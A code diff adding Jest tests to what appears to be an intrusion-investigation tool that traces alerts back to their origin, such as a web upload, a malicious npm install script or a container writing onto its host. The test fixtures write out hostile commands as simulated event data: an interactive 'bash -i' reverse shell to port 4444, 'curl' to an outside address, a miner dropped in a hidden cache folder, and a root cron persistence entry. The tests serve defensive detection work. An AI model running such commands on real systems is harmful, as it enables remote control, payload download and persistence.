@@ -48,6 +48,25 @@ describe('a web page that runs commands', () => {
     return { called, miner, worker };
   }
 
+  it('is told of what a worker ran that was only heard of before, and of the upload before it; the application itself is no part', () => {
+    machine.seen(900, 1, '/usr/sbin/php-fpm8.2', 'php-fpm: master process', { cgroup: '/system.slice/php8.2-fpm.service', user: 'root' });
+    const worker = machine.run(900, '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', { user: 'www-data' });
+    const page = '/var/www/html/up/logo.php';
+    const put = write(machine, disk, worker, page, '<?php', { from: '/tmp/php1' });
+    disk.requests.push(event('access', { source_ip: '203.0.113.80', http_method: 'GET', url_path: '/index.php' }), event('access', { source_ip: attacker, http_method: 'POST', url_path: '/upload.php' }), event('access', { source_ip: attacker, http_method: 'POST', url_path: '/up/logo.php' }));
+    const shell = machine.fork(970);
+    machine.exec(shell, '/bin/sh', 'sh -c bash -i', { parent_pid: 971, parent_path: '/usr/sbin/php-fpm8.2', parent_cmdline: 'php-fpm: pool www' });
+    const bash = machine.run(shell, '/bin/bash', 'bash -i');
+    const story = tell(alertOf(put), alertOf(connect(machine, bash, pool, 4444)), alertOf(event('access', { source_ip: attacker, url_path: '/up/logo.php' })));
+    expect(story.entry).toMatchObject({ kind: 'web', address: attacker, request: 'POST /upload.php' });
+    const app = machine.run(1, '/usr/bin/node', 'node /srv/app/server.js', { cgroup: '/system.slice/app.service' });
+    machine.tell('listener', app, { action: 'listener-start', destination_port: 3000, protocol: 'tcp', direction: 'listening' });
+    const child = machine.run(app, '/usr/bin/node', 'node /srv/app/worker.js');
+    machine.tell('listener', child, { action: 'listener-start', destination_port: 3001, protocol: 'tcp', direction: 'listening' });
+    const ran = machine.run(child, '/bin/sh', 'sh -c curl http://198.51.100.7/x');
+    expect(members(tell(alertOf(connect(machine, ran, pool, 80))))).toEqual(['sh -c curl http://198.51.100.7/x']);
+  });
+
   it('is told from the request to the pool', () => {
     const { called } = intrusion();
     const story = tell(alertOf(called));
@@ -197,6 +216,35 @@ describe('what carries the work of others', () => {
     expect(story.entry).toMatchObject({ kind: 'package', service: 'npm' });
   });
 
+  it('names the package whose script did it, with all that it brought, and not whoever installed it', () => {
+    const { shell } = logOn(machine, 'dev', '192.0.2.77');
+    const npm = machine.run(shell, '/usr/bin/node', 'npm ci', { process_cwd: '/srv/shop' });
+    const folder = '/srv/shop/node_modules/@pad/left';
+    for (const file of ['package.json', 'index.js', 'lib/setup.js']) write(machine, disk, npm, `${folder}/${file}`, 'x');
+    write(machine, disk, npm, '/srv/shop/node_modules/good/index.js', 'x');
+    const script = machine.run(npm, '/bin/sh', 'sh -c node lib/setup.js', { process_cwd: folder });
+    const node = machine.run(script, '/usr/bin/node', 'node lib/setup.js', { process_cwd: folder });
+    write(machine, disk, node, '/home/dev/.cache/.f/m', 'elf');
+    const mine = machine.run(node, '/home/dev/.cache/.f/m', '/home/dev/.cache/.f/m', { process_cwd: '/srv/shop/node_modules/good' });
+    const story = tell(alertOf(connect(machine, mine, pool, 3333)));
+    expect(story.entry).toMatchObject({ kind: 'package', service: 'npm', package: '@pad/left', user: 'dev' });
+    expect(story.entry?.address).toBeUndefined();
+    expect(story.entry?.text.en).toBe('a script of the package @pad/left that npm ran while it installed (run by dev from 192.0.2.77)');
+    expect(story.nodes.find(({ kind }) => kind === 'package')).toMatchObject({ id: `package:${folder}`, label: '@pad/left', facts: { manager: 'npm', path: folder } });
+    expect(labels(story, 'file')).toEqual(['/home/dev/.cache/.f/m', `${folder}/index.js`, `${folder}/lib/setup.js`, `${folder}/package.json`]);
+    expect(story.nodes.find(({ id }) => id === 'address:192.0.2.77')?.facts['weak']).toBe(true);
+  });
+
+  it('names a package of too many files without them', () => {
+    const { shell } = logOn(machine, 'dev', '192.0.2.77');
+    const npm = machine.run(shell, '/usr/bin/node', 'npm ci', { process_cwd: '/srv/shop' });
+    for (let i = 0; i < 150; i++) disk.files.set(`/srv/shop/node_modules/large/${i}.js`, { text: 'x', born: clock.now });
+    const script = machine.run(npm, '/bin/sh', 'sh -c node setup.js', { process_cwd: '/srv/shop/node_modules/large' });
+    const story = tell(alertOf(connect(machine, script, pool, 3333)));
+    expect(story.nodes.find(({ kind }) => kind === 'package')?.facts).toMatchObject({ name: 'large', large: true });
+    expect(labels(story, 'file').filter((path) => path.includes('large'))).toEqual([]);
+  });
+
   it('takes no name for it where nobody installs programs', () => {
     const { shell } = logOn(machine, 'root', attacker);
     const fake = machine.run(shell, '/tmp/.x/nginx', 'nginx: worker process');
@@ -216,6 +264,46 @@ describe('what carries the work of others', () => {
     const story = tell(alertOf(connect(machine, m, pool, 1)));
     expect(members(story)).toEqual(['/tmp/m', 'apt-get install -y masscan', 'sh -c apt-get install -y masscan; /tmp/m']);
     expect(labels(story, 'file')).toEqual(['/tmp/m']);
+  });
+});
+
+describe('a container', () => {
+  const id = 'c'.repeat(64), layer = '/var/lib/docker/overlay2/a/merged';
+  const begin = (): number => machine.seen(700, 1, '/bin/busybox', 'httpd -f -h /www', { container_id: id, cgroup: `/system.slice/docker-${id}.scope` });
+
+  it('that has the files of the host mounted writes on the host, and in its own layer', () => {
+    disk.mounts = { [id]: { '/host/': '/', '/': `${layer}/` } };
+    const sh = machine.run(begin(), '/bin/busybox', 'sh /tmp/out.sh', { container_id: id });
+    const told = (path: string, here: string, text: string): void => {
+      disk.files.set(here, { text, born: clock.now });
+      machine.tell('file_event', sh, { action: 'create', file_path: path, container_id: id });
+    };
+    told('/tmp/out.sh', `${layer}/tmp/out.sh`, 'x');
+    told('/host/usr/lib/.netd/netd', '/usr/lib/.netd/netd', 'elf');
+    told('/host/etc/cron.d/netd', '/etc/cron.d/netd', '17 3 * * * root /usr/lib/.netd/netd\n');
+    // The same name in the image, changed there: it was before.
+    disk.files.set(`${layer}/etc/passwd`, { text: 'x', born: clock.now });
+    machine.tell('file_event', sh, { action: 'write', file_path: '/etc/passwd', container_id: id });
+    const story = tell(alertOf(connect(machine, sh, pool, 3333)));
+    // The server that it came by serves others on.
+    expect(members(story)).toEqual(['sh /tmp/out.sh']);
+    expect(labels(story, 'file', ({ facts }) => facts['made'] === true)).toEqual(['/usr/lib/.netd/netd', `${layer}/tmp/out.sh`]);
+    expect(labels(story, 'persistence')).toEqual(['/etc/cron.d/netd', '/etc/cron.d/netd:1: 17 3 * * * root /usr/lib/.netd/netd']);
+    expect(story.nodes.find(({ label }) => label === `${layer}/etc/passwd`)?.facts['made']).toBeUndefined();
+    expect(edge(story, 'planted', /^sh/, /cron\.d/)).toBe(true);
+    // Whatever of the host runs it is of the story.
+    const job = machine.run(1, '/usr/lib/.netd/netd', '/usr/lib/.netd/netd');
+    expect(members(tell(alertOf(connect(machine, sh, pool, 3334))))).toContain(machine.node(job).cmdline);
+  });
+
+  it('of which nothing is known has its own files, whatever the host calls so', () => {
+    const sh = machine.run(begin(), '/bin/busybox', 'sh -c x', { container_id: id });
+    machine.tell('file_event', sh, { action: 'create', file_path: '/etc/cron.d/x', container_id: id });
+    disk.files.set('/etc/cron.d/x', { text: 'own', born: 1 });
+    const story = tell(alertOf(connect(machine, sh, pool, 3333)));
+    expect(labels(story, 'persistence')).toEqual([]);
+    expect(story.nodes.find(({ kind }) => kind === 'file')).toMatchObject({ label: '/etc/cron.d/x', facts: { container: id } });
+    expect(story.nodes.find(({ kind }) => kind === 'file')?.lives).toBeUndefined();
   });
 });
 
@@ -266,7 +354,7 @@ describe('large stories', () => {
     world.steps = 0;
     Object.assign(world, {
       lineage: { of: () => undefined, process: (pid: number) => nodes[pid - 10], writer: () => { world.steps++; return undefined; } }, processes: () => nodes, owner: () => { world.steps++; return undefined; }, look: () => { world.steps++; return undefined; },
-      apart: new Set(), text: () => undefined, cronTables: () => [], requests: () => [], since: undefined, now: t0 + 3_600_000,
+      apart: new Set(), text: () => undefined, files: () => undefined, onHost: () => undefined, cronTables: () => [], requests: () => [], since: undefined, now: t0 + 3_600_000,
     });
     return { world, seed: nodes[0]! };
   }
